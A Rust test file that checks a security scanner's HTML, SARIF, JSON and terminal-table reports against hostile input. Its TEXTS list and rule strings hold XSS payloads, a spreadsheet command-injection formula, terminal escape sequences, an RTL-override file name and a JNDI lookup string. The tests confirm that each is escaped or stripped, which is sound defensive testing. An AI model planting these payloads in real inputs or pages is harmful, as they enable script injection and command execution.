use certus_model::escape::is_printable;
use certus_model::{Finding, Location, RepoPath, Revision, Severity, Span};
use serde_json::Value;

use crate::fixture::{Scene, dependency, documents, finding, json, text};

/// Case 57 and 58 of the hostile list, and what a terminal, a spreadsheet or a viewer might run.
const TEXTS: [&str; 14] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</script></style></title><svg onload=alert(1)>",
    "[click](javascript:alert(1))",
    "]]>",
    "```\n# heading\n```",
    "=cmd()|' /C calc'!A0",
    "\u{202e}gnp.exe\u{2066}",
    "\u{1b}[2J\u{1b}[31mred",
    "\u{1b}]8;;http://evil.example/\u{7}link\u{1b}]8;;\u{7}",
    "one\nWARN forged log line\r\n",
    "nul \0 and \u{2028} and \u{2029} and \u{feff}",
    "{{ 7*7 }} {0} %s ${jndi:ldap://evil}",
    "\u{9b}31m\u{85}\u{ad}\u{200b}",
];

const RULES: &str = "[[rules]]\nid = \"r\"\ntitle = \"<b>Title</b>\\u001b[1m\"\nseverity = \"high\"\nmessage = \"<i>{t}</i> [x](y)\"\n\
    help = \"Help <script>alert(2)</script>\\n\\u202eline\"\ntags = [\"</style>\", \"a\\tb\"]\ncwe = [79]\nparameters = { t = \"text\" }\n";

pub(super) fn scene() -> Scene {
    let mut files: Vec<(Vec<u8>, Vec<u8>)> = TEXTS
        .iter()
        .enumerate()
        .map(|(index, text)| (format!("f{index}").into_bytes(), text.as_bytes().to_vec()))
        .collect();
    files.push((
        b"<img src=x>:%[a](b) \xff\x1b[2J#?.txt".to_vec(),
        b"\xc0\xaf\xed\xa0\x80 over-long and surrogate \xff".to_vec(),
    ));
    let mut scene = Scene::new(files);
    let mut findings: Vec<Finding> = Vec::new();
    for (index, hostile) in TEXTS.iter().enumerate() {
        let path: RepoPath = format!("f{index}").parse().unwrap();
        let at = Location { path, revision: Revision::Head, span: Some(Span { start: 0, end: hostile.len() as u64 }) };
        findings.push(Finding { parameters: vec![text("t", hostile)], ..finding("r", at, Severity::High) });
    }
    let path = RepoPath::from_bytes(b"<img src=x>:%[a](b) \xff\x1b[2J#?.txt").unwrap();
    let at = Location { path, revision: Revision::Head, span: Some(Span { start: 1, end: 30 }) };
    findings.push(Finding {
        parameters: vec![text("t", "x")],
        related: vec![at.clone()],
        ..finding("r", at.clone(), Severity::High)
    });
    let run = scene.run("t.p", RULES, findings);
    run.dependencies = TEXTS
        .iter()
        .enumerate()
        .map(|(index, hostile)| {
            let mut stated = dependency(&index.to_string(), hostile, hostile, &["0"]);
            stated.ecosystem = (*hostile).to_owned();
            stated.namespace = Some((*hostile).to_owned());
            stated.licences = vec![(*hostile).to_owned()];
            stated.origin = Some(format!("https://example.org/{hostile}"));
            stated.qualifiers.insert((*hostile).to_owned(), (*hostile).to_owned());
            stated.evidence = vec![at.clone()];
            stated
        })
        .collect();
    scene.not_run = vec![crate::NotRun { tool: TEXTS[0].into(), reason: TEXTS[8].into(), required: true }];
    scene.baseline =
        "[[suppression]]\npath = \"f1\"\nreason = \"<script>\\u001b[2J [a](javascript:b)\"".parse().unwrap();
    scene
}

#[test]
fn case_057_the_page_is_inert() {
    let page = scene().report().html().unwrap();
    let (head, body) = page.split_once("</head>").unwrap();
    assert!(head.contains("default-src &#39;none&#39;") || head.contains("default-src 'none'"));
    assert_eq!(page.matches("<style").count(), 1);
    for forbidden in ["<script", "<img", "<svg", "<b>", "<i>", " onerror=\"", "href=\"http", "src=\"", "style=\""] {
        assert!(!body.contains(forbidden), "{forbidden}");
    }
    for link in body.split("href=\"").skip(1) {
        assert!(link.starts_with('#'), "{}", &link[..20]);
    }
    assert!(body.contains("&#60;script&#62;alert(1)") || body.contains("&lt;script&gt;alert(1)"), "shown as text");
}

/// The policy allows exactly the style that is there.
#[test]
fn the_pages_policy_names_its_style() {
    use base64::Engine as _;
    use sha2::Digest as _;
    let page = scene().report().html().unwrap();
    let style = page.split_once("<style>").unwrap().1.split_once("</style>").unwrap().0;
    let hash = base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(style));
    let policy = page.split_once("Content-Security-Policy").unwrap().1.split_once('>').unwrap().0;
    let policy = policy.replace("&#43;", "+").replace("&#61;", "=");
    assert!(policy.contains(&format!("sha256-{hash}")), "{policy}");
}

/// Case 58: nothing that a terminal would obey, in any document.
#[test]
fn case_058_no_document_holds_a_control_character() {
    for (name, document) in documents(&scene().report()) {
        let allowed = |c: char| c == '\n' || c == '\t' || (name == "coloured table" && c == '\u{1b}');
        let found: Vec<char> = document.chars().filter(|c| !is_printable(*c) && !allowed(*c)).collect();
        assert!(found.is_empty(), "{name}: {found:?}");
    }
    let table = scene().report().table(crate::Colour::Plain, 200).unwrap();
    assert!(!table.lines().any(|line| line.trim_start().starts_with("WARN forged")), "{table}");
}

/// Case 59: valid JSON that reads back, whatever bytes a file holds.
#[test]
fn case_059_documents_read_back() {
    let scene = scene();
    let report = scene.report();
    for bytes in
        [report.findings_json(), report.sarif(), report.coverage_json(), report.summary_json(), report.policy_json()]
    {
        let bytes = bytes.unwrap();
        assert_eq!(certus_model::canonical_json(&json(&bytes)).unwrap(), bytes);
    }
    let findings = json(&report.findings_json().unwrap());
    let snippets: Vec<_> =
        findings["findings"].as_array().unwrap().iter().map(|f| f["places"][0]["snippet"].clone()).collect();
    assert!(
        snippets.iter().any(|snippet| snippet.as_str().is_some_and(|s| s.contains("over-long and surrogate \u{fffd}")))
    );
}

#[test]
fn sarif_names_files_by_their_original_bytes() {
    let log = json(&scene().report().sarif().unwrap());
    let results = log["runs"][0]["results"].as_array().unwrap();
    let uri = |result: &Value| {
        result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str().unwrap().to_owned()
    };
    assert!(results.iter().any(|r| uri(r) == "%3Cimg%20src%3Dx%3E%3A%25%5Ba%5D%28b%29%20%FF%1B%5B2J%23%3F.txt"));
    for result in results {
        let message = result["message"]["text"].as_str().unwrap();
        assert!(!message.contains("]("), "an embedded link: {message}");
        let partial = result["partialFingerprints"].as_object().unwrap();
        assert!(partial["primaryLocationLineHash"].as_str().unwrap().ends_with(":1"));
    }
}

#[test]
fn sarif_says_what_was_suppressed_and_what_failed() {
    let scene = super::demo::demo();
    let log = json(&scene.report().sarif().unwrap());
    let runs = log["runs"].as_array().unwrap();
    let run = |id: &str| runs.iter().find(|run| run["tool"]["driver"]["name"] == id).unwrap();
    let secrets = run("certus.secrets");
    let suppressed =
        secrets["results"].as_array().unwrap().iter().filter(|r| r["suppressions"].as_array().unwrap().len() == 1);
    assert_eq!(suppressed.count(), 1);
    assert_eq!(secrets["invocations"][0]["executionSuccessful"], true);
    let code = &run("acme.code")["invocations"][0];
    assert_eq!(code["executionSuccessful"], false);
    assert_eq!(
        code["toolExecutionNotifications"][0]["message"]["text"],
        "acme.code did not analyse `static/app.min.js` (failed:fuel)"
    );
    let rules = secrets["tool"]["driver"]["rules"].as_array().unwrap();
    assert_eq!(rules[0]["properties"]["security-severity"], "9.5");
    for run in runs {
        let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
        for result in run["results"].as_array().unwrap() {
            assert_eq!(rules[result["ruleIndex"].as_u64().unwrap() as usize]["id"], result["ruleId"]);
        }
    }
}

#[test]
fn tables_fit_their_width() {
    let scene = super::demo::demo();
    for width in [40, 60, 80, 120, 200] {
        let table = scene.report().table(crate::Colour::Plain, width).unwrap();
        let rows: Vec<_> = table.lines().take_while(|line| !line.contains("findings:")).collect();
        assert!(rows.len() > 10, "{table}");
        for row in rows {
            assert!(row.chars().count() <= usize::from(width), "{width}: {row}");
        }
        assert!(table.ends_with("decision: error, nothing is vouched for\n"));
    }
    assert!(!scene.report().table(crate::Colour::Plain, 80).unwrap().contains('\u{1b}'));
    assert!(scene.report().table(crate::Colour::Ansi, 80).unwrap().contains('\u{1b}'));
}
